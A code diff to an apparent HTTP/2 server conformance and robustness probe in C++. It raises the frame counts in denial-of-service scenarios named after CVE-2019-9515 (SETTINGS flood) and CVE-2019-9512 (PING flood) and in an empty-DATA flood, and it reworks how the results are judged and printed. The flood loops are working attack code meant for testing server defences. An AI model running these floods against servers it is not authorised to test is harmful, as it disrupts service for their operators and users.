@@ -6,6 +6,7 @@
 #include <algorithm>
 #include <fstream>
 #include <functional>
+#include <map>
 #include <set>
 #include <sstream>
 
@@ -16,6 +17,7 @@
 #include "absl/strings/strip.h"
 #include "absl/strings/match.h"
 #include "conformance/probe/conn.h"
+#include "conformance/probe/procfs.h"
 
 namespace probe {
 namespace {
@@ -89,6 +91,16 @@ struct Attack {
   // After the flood: wait for a reaction that may still be on its way.
   void Settle() {
     conn->WaitFor([&] { return Reacted(); }, absl::Now() + std::min(options.timeout, absl::Milliseconds(500)));
+  }
+  std::string StreamSummary() {
+    std::map<std::string, int> counts;
+    for (const auto& [id, st] : conn->obs().streams) {
+      if (st.rst) ++counts[absl::StrCat("RST_STREAM ", http2::ErrorCodeName(static_cast<ErrorCode>(*st.rst)))];
+      if (st.status) ++counts[absl::StrCat(st.status)];
+    }
+    std::string s;
+    for (const auto& [what, n] : counts) absl::StrAppend(&s, s.empty() ? "" : ", ", what, " x", n);
+    return s.empty() ? "-" : s;
   }
   std::string ReactionText() {
     const Observation& o = conn->obs();
@@ -209,14 +221,14 @@ std::vector<Def> Scenarios() {
        }},
       {"settings-flood", "SETTINGS frames without reading the ACKs", "CVE-2019-9515",
        [](Attack& a) {
-         for (uint64_t i = 0; i < Count(a.options, 200000) && a.TimeLeft(); i += 500) {
+         for (uint64_t i = 0; i < Count(a.options, 2000000) && a.TimeLeft(); i += 500) {
            for (int k = 0; k < 500; ++k) a.conn->out().Settings({{http2::kSettingsMaxConcurrentStreams, 100}});
            if (!a.Send(500, false)) break;
          }
        }},
       {"ping-flood", "PING frames without reading the ACKs", "CVE-2019-9512",
        [](Attack& a) {
-         for (uint64_t i = 0; i < Count(a.options, 200000) && a.TimeLeft(); i += 500) {
+         for (uint64_t i = 0; i < Count(a.options, 2000000) && a.TimeLeft(); i += 500) {
            for (int k = 0; k < 500; ++k) a.conn->out().Ping(i + k);
            if (!a.Send(500, false)) break;
          }
@@ -226,7 +238,7 @@ std::vector<Def> Scenarios() {
          hpack::HeaderList req = Request(a.target);
          req[0].value = "POST";
          a.conn->out().Headers(1, req, 0);
-         for (uint64_t i = 0; i < Count(a.options, 200000) && a.TimeLeft(); i += 500) {
+         for (uint64_t i = 0; i < Count(a.options, 2000000) && a.TimeLeft(); i += 500) {
            for (int k = 0; k < 500; ++k) a.conn->out().Data(1, "");
            if (!a.Send(500, true)) break;
          }
@@ -264,61 +276,6 @@ std::vector<Def> Scenarios() {
 
 }  // namespace
 
-int FindServerPid(uint16_t port) {
-  std::set<std::string> inodes;
-  for (const char* table : {"/proc/net/tcp", "/proc/net/tcp6"}) {
-    std::ifstream in(table);
-    std::string line;
-    std::getline(in, line);
-    while (std::getline(in, line)) {
-      std::vector<std::string> f = absl::StrSplit(line, ' ', absl::SkipEmpty());
-      if (f.size() < 10 || f[3] != "0A") continue;  // LISTEN
-      const size_t colon = f[1].rfind(':');
-      unsigned p = 0;
-      if (colon == std::string::npos || !absl::SimpleHexAtoi(f[1].substr(colon + 1), &p) || p != port) continue;
-      inodes.insert(absl::StrCat("socket:[", f[9], "]"));
-    }
-  }
-  if (inodes.empty()) return -1;
-  DIR* proc = opendir("/proc");
-  if (!proc) return -1;
-  int found = -1;
-  while (dirent* e = readdir(proc)) {
-    int pid = 0;
-    if (!absl::SimpleAtoi(e->d_name, &pid) || pid == getpid()) continue;
-    const std::string fd_dir = absl::StrCat("/proc/", pid, "/fd");
-    DIR* fds = opendir(fd_dir.c_str());
-    if (!fds) continue;
-    while (dirent* fe = readdir(fds)) {
-      char buf[64];
-      const std::string link = absl::StrCat(fd_dir, "/", fe->d_name);
-      const ssize_t n = readlink(link.c_str(), buf, sizeof buf - 1);
-      if (n > 0 && inodes.count(std::string(buf, n))) {
-        found = pid;
-        break;
-      }
-    }
-    closedir(fds);
-    if (found > 0) break;
-  }
-  closedir(proc);
-  return found;
-}
-
-long RssKb(int pid) {
-  if (pid <= 0) return -1;
-  std::ifstream in(absl::StrCat("/proc/", pid, "/status"));
-  std::string line;
-  while (std::getline(in, line)) {
-    long kb = 0;
-    if (absl::StartsWith(line, "VmRSS:") &&
-        absl::SimpleAtoi(absl::StripAsciiWhitespace(absl::StripSuffix(line.substr(6), "kB")), &kb)) {
-      return kb;
-    }
-  }
-  return -1;
-}
-
 std::vector<std::string> AttackNames() {
   std::vector<std::string> names;
   for (const Def& d : Scenarios()) names.push_back(d.name);
@@ -345,6 +302,7 @@ std::vector<AttackResult> RunAttackScenarios(const Target& target, const AttackO
       d.run(a);
       a.Settle();
       r.reaction = a.ReactionText();
+      r.streams = a.StreamSummary();
       a.conn->Close();
     }
     r.seconds = absl::ToDoubleSeconds(absl::Now() - start);
@@ -372,28 +330,30 @@ std::vector<AttackResult> RunAttackScenarios(const Target& target, const AttackO
     }
     r.fresh_connection_ms = absl::ToDoubleMilliseconds(absl::Now() - t0);
     const long growth = r.rss_peak_kb >= 0 && r.rss_before_kb >= 0 ? r.rss_peak_kb - r.rss_before_kb : -1;
-    const bool reacted = r.reaction != "none";
-    const bool bounded = growth >= 0 && growth < 64 * 1024;
-    if (r.name == "stream-churn" || r.name == "zero-window") {
-      // Legitimate traffic in excess: defended means bounded memory and still serving.
-      r.defended = r.fresh_connection_ok && (growth < 0 || bounded);
+    if (!r.fresh_connection_ok) {
+      r.verdict = "NOT DEFENDED (stopped serving)";
+    } else if (growth > 64 * 1024) {
+      r.verdict = absl::StrFormat("NOT DEFENDED (memory +%.0f MiB)", growth / 1024.0);
+    } else if (r.reaction != "none") {
+      r.verdict = "cut off";
     } else {
-      r.defended = r.fresh_connection_ok && (reacted || bounded);
+      r.verdict = "absorbed";
     }
-    if (!reacted && growth < 0) r.note = "memory not measurable (server not on this machine)";
+    r.defended = !absl::StartsWith(r.verdict, "NOT");
+    if (growth < 0) r.note = "memory not measurable (server not on this machine)";
     results.push_back(std::move(r));
   }
   return results;
 }
 
 void PrintAttackTable(const std::vector<AttackResult>& results, std::ostream& out) {
-  out << absl::StrFormat("%-18s %-9s %9s %6s %-52s %-26s %s\n", "scenario", "defended", "frames", "secs",
-                         "server reaction", "RSS before/peak/after MiB", "fresh conn");
+  out << absl::StrFormat("%-18s %-9s %9s %6s %-48s %-34s %-20s %s\n", "scenario", "verdict", "frames", "secs",
+                         "connection reaction", "stream answers", "RSS MiB before/peak", "fresh conn");
   for (const AttackResult& r : results) {
     auto mib = [](long kb) { return kb < 0 ? std::string("?") : absl::StrFormat("%.1f", kb / 1024.0); };
-    out << absl::StrFormat("%-18s %-9s %9llu %6.2f %-52s %-26s %s\n", r.name, r.defended ? "yes" : "NO",
-                           static_cast<unsigned long long>(r.frames_sent), r.seconds, r.reaction.substr(0, 52),
-                           absl::StrCat(mib(r.rss_before_kb), "/", mib(r.rss_peak_kb), "/", mib(r.rss_after_kb)),
+    out << absl::StrFormat("%-18s %-9s %9llu %6.2f %-48s %-34s %-20s %s\n", r.name, r.verdict,
+                           static_cast<unsigned long long>(r.frames_sent), r.seconds, r.reaction.substr(0, 48),
+                           r.streams.substr(0, 34), absl::StrCat(mib(r.rss_before_kb), "/", mib(r.rss_peak_kb)),
                            r.fresh_connection_ok ? absl::StrFormat("ok %.0f ms", r.fresh_connection_ms) : "FAILED");
   }
 }
@@ -408,7 +368,9 @@ int RunAttacks(const Target& target, const AttackOptions& options, std::ostream&
     down += !r.fresh_connection_ok;
     undefended += !r.defended;
   }
-  out << results.size() - undefended << " defended, " << undefended << " not defended";
+  int cut = 0;
+  for (const AttackResult& r : results) cut += r.verdict == "cut off";
+  out << cut << " cut off, " << results.size() - undefended - cut << " absorbed, " << undefended << " not defended";
   if (down) out << "; the server stopped answering fresh connections after " << down << " scenarios";
   out << "\n";
   return down ? 1 : 0;
